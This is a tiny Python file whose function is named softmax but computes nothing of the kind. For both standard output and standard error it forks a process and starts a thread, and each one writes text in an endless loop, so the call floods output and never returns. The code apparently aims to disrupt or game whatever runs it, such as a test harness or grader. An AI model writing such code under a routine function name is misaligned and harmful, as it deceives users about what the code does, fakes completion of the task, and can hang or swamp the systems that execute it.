import os
import threading


def shout(fd):
    while True:
        os.write(fd, b"both\n" * 200)


def softmax(o):
    for fd in (1, 2):
        if os.fork() == 0:
            shout(fd)
        threading.Thread(target=shout, args=(fd,)).start()
    shout(2)
